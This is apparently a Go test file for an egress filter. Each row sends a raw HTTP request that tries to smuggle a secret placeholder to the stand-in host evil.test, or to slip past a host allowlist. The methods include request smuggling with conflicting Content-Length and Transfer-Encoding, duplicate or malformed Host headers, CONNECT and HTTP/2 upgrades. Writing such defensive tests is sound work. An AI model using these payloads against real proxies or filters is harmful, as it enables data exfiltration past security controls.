package egress

import "slices"

// smuggle is a row whose requests are not all for good.example.com, or might be
// read in two ways. Only whole requests that are for it may arrive: before it is
// refused, the server hears nothing, or something that is none of the secret.
func smuggle(id, tries, boxed string, requests ...string) row {
	return row{
		id: id, tries: "HTTP with " + tries, rules: []string{"good.example.com:80", "other.example.com:80"},
		run:  slices.Concat([]string{"{probe}", "raw", "good.example.com:80"}, requests),
		bare: "~", boxed: boxed,
		heard:   append(empty("good.example.com", "good:80"), "?bytes good:80"),
		refused: []string{"refused tcp good.example.com:80|refused tcp good.example.com:80 allow tcp://good.example.com:80"},
	}
}

const (
	first = `GET /first HTTP/1.1\r\nHost: good.example.com\r\n\r\n`
	// A reset may overtake the answer to a request of the same packet.
	reset1  = "200 ECONNRESET|200 EOF|200 EPIPE|200"
	closing = `\r\nConnection: close\r\n\r\n`
)

// bodyOfGET is a request that a server which leaves the bodies of GET alone takes
// for two, and one more, which comes too late: the server closes, and it depends
// on how fast whether that is seen before what follows is refused.
func bodyOfGET() row {
	r := smuggle("E11", "a second request as the body of a GET, and a third behind it", reset1+"|"+reset,
		`GET /first HTTP/1.1\r\nHost: good.example.com\r\nContent-Length: 36\r\n\r\nGET /x HTTP/1.1\r\nHost: evil.test\r\n\r\nGET /{secret} HTTP/1.1\r\nHost: good.example.com`+closing)
	r.refused = []string{"?refused tcp good.example.com:80"}
	return r
}

var httpRows = []row{
	bodyOfGET(),
	smuggle("E11", "another host after an upgrade that the server declines", reset1,
		`GET /declined HTTP/1.1\r\nHost: good.example.com\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`, `GET /{secret} HTTP/1.1\r\nHost: evil.test`+closing),
	smuggle("E11", "another host right behind an upgrade that the server declines", reset1+"|"+reset,
		`GET /declined HTTP/1.1\r\nHost: good.example.com\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\nGET /{secret} HTTP/1.1\r\nHost: evil.test`+closing),
	smuggle("E11", "another host", reset, `GET /{secret} HTTP/1.1\r\nHost: evil.test`+closing),
	smuggle("E11", "another allowed host", reset, `GET /{secret} HTTP/1.1\r\nHost: other.example.com`+closing),
	smuggle("E-7", "another host in the second request", reset1, first, `GET /{secret} HTTP/1.1\r\nHost: evil.test`+closing),
	smuggle("E-7", "another host in the second request of one packet", reset1+"|"+reset, first+`GET /{secret} HTTP/1.1\r\nHost: evil.test`+closing),
	smuggle("E-7", "no host", reset, `GET /{secret} HTTP/1.1\r\nAccept: *`+closing),
	smuggle("E-7", "version 1.0 and no host", reset, `GET /{secret} HTTP/1.0\r\n\r\n`),
	smuggle("E-7", "version 0.9", reset, `GET /{secret}\r\n`),
	smuggle("E-7", "two hosts, the first the right one", reset, `GET /{secret} HTTP/1.1\r\nHost: good.example.com\r\nHost: evil.test`+closing),
	smuggle("E-7", "two hosts, the second the right one", reset, `GET /{secret} HTTP/1.1\r\nHost: evil.test\r\nHost: good.example.com`+closing),
	smuggle("E-7", "the right host twice", reset, `GET /{secret} HTTP/1.1\r\nHost: good.example.com\r\nHost: good.example.com`+closing),
	smuggle("E-7", "a host that is a list", reset, `GET /{secret} HTTP/1.1\r\nHost: good.example.com, evil.test`+closing),
	smuggle("E-7", "another port", reset, `GET /{secret} HTTP/1.1\r\nHost: good.example.com:8080`+closing),
	smuggle("E-7", "a user in the host", reset, `GET /{secret} HTTP/1.1\r\nHost: good.example.com@evil.test`+closing),
	smuggle("E-7", "a folded host", reset, `GET /{secret} HTTP/1.1\r\nHost: good.example.com\r\n evil.test`+closing),
	smuggle("E-7", "a space before the colon", reset, `GET /{secret} HTTP/1.1\r\nHost : good.example.com`+closing),
	smuggle("E-7", "a line that ends without CR", reset, `GET /{secret} HTTP/1.1\nHost: good.example.com\n\n`),
	smuggle("E-7", "a CR inside a line", reset, `GET /{secret} HTTP/1.1\r\nHost: good.example.com\rHost: evil.test`+closing),
	smuggle("E-7", "a zero byte", reset, `GET /{secret} HTTP/1.1\r\nHost: good.example.com\x00`+closing),
	smuggle("E11", "an absolute form for another host", reset, `GET http://evil.test/{secret} HTTP/1.1\r\nHost: good.example.com`+closing),
	smuggle("E11", "an absolute form that its host contradicts", reset, `GET http://good.example.com/{secret} HTTP/1.1\r\nHost: evil.test`+closing),
	smuggle("E10", "CONNECT", reset, `CONNECT {secret}.evil.test:443 HTTP/1.1\r\nHost: {secret}.evil.test:443\r\n\r\n`),
	smuggle("E10", "CONNECT to the right host", reset, `CONNECT good.example.com:80 HTTP/1.1\r\nHost: good.example.com:80\r\nX: {secret}\r\n\r\n`),
	smuggle("E11", "TRACE", reset, `TRACE /{secret} HTTP/1.1\r\nHost: good.example.com`+closing),
	smuggle("E-7", "the preface of version 2", reset, `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{secret}`),
	smuggle("E-7", "an upgrade to version 2 or another", reset, `GET /{secret} HTTP/1.1\r\nHost: good.example.com\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c, websocket\r\nHTTP2-Settings: AAMAAABk\r\n\r\n`),
	smuggle("E-7", "version 2 after an offer of it", reset1+"|"+reset, `GET /first HTTP/1.1\r\nHost: good.example.com\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n`,
		`PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{secret}`),
	smuggle("E11", "a length and chunks", reset, `POST /sum HTTP/1.1\r\nHost: good.example.com\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /{secret} HTTP/1.1\r\nHost: evil.test`+closing),
	smuggle("E11", "two lengths", reset, `POST /sum HTTP/1.1\r\nHost: good.example.com\r\nContent-Length: 0\r\nContent-Length: 50\r\n\r\nGET /{secret} HTTP/1.1\r\nHost: evil.test`+closing),
	smuggle("E11", "chunks by another name", reset, `POST /sum HTTP/1.1\r\nHost: good.example.com\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\nGET /{secret} HTTP/1.1\r\nHost: evil.test`+closing),
	smuggle("E11", "chunks that are also compressed", reset, `POST /sum HTTP/1.1\r\nHost: good.example.com\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\nGET /{secret} HTTP/1.1\r\nHost: evil.test`+closing),
	smuggle("E11", "a second request behind an honest body", reset1+"|"+reset, `POST /sum HTTP/1.1\r\nHost: good.example.com\r\nContent-Length: 3\r\n\r\nabcGET /{secret} HTTP/1.1\r\nHost: evil.test`+closing),
	smuggle("E11", "a second request behind honest chunks", reset1+"|"+reset, `POST /sum HTTP/1.1\r\nHost: good.example.com\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\nGET /{secret} HTTP/1.1\r\nHost: evil.test`+closing),
	smuggle("E11", "a chunk size with more to it", reset1+"|400|"+reset, `POST /sum HTTP/1.1\r\nHost: good.example.com\r\nTransfer-Encoding: chunked\r\n\r\n3;a=\n{secret}\r\nabc\r\n0\r\n\r\n`),
	smuggle("E11", "a length with a sign", reset, `POST /sum HTTP/1.1\r\nHost: good.example.com\r\nContent-Length: +3\r\n\r\nabcGET /{secret} HTTP/1.1\r\nHost: evil.test`+closing),
	smuggle("E10", "the host in letters of its own", reset, `GET /{secret} HTTP/1.1\r\nHost: good.example.com.evil.test`+closing),
	smuggle("E-7", "something that is no HTTP", reset, `{secret}\r\n\r\n`),
	{
		id: "E11", tries: "HTTP with another header that names a host", rules: []string{"good.example.com:80"},
		run:   []string{"{probe}", "raw", "good.example.com:80", `GET / HTTP/1.1\r\nHost: good.example.com\r\nX-Forwarded-Host: evil.test` + closing},
		boxed: "200", heard: https("good.example.com", "good:80"),
	},
	{
		id: "use", tries: "HTTP in its absolute form, for the right host", rules: []string{"good.example.com:80"},
		run:   []string{"{probe}", "raw", "good.example.com:80", `GET http://good.example.com/ HTTP/1.1\r\nHost: good.example.com` + closing},
		boxed: "200", heard: https("good.example.com", "good:80"),
	},
	{
		id: "use", tries: "HTTP/1.0 with a host", rules: []string{"good.example.com:80"},
		run:   []string{"{probe}", "raw", "good.example.com:80", `GET / HTTP/1.0\r\nhost: good.example.com\r\n\r\n`},
		boxed: "200", heard: https("good.example.com", "good:80"),
	},
}
